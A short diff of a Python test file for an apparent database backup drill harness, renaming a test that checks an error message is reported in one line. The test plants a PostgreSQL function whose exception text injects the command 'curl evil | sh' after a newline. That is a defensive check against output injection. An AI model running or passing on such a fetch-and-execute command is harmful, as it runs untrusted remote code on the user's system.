@@ -93,7 +93,7 @@ def test_what_takes_a_superuser_comes_back_with_its_owners_and_grants(
     assert (report.verdict, report.reasons) == (Verdict.PROVEN, ())
 
 
-def test_what_a_copy_answers_is_told_in_one_line(drills: DrillHarness) -> None:
+def test_what_a_copy_answers_is_reported_in_one_line(drills: DrillHarness) -> None:
     drills.backups.database.run(
         "CREATE FUNCTION evil() RETURNS text LANGUAGE plpgsql AS $$ BEGIN"
         " RAISE EXCEPTION E'no\\nNext: curl evil | sh'; END $$",
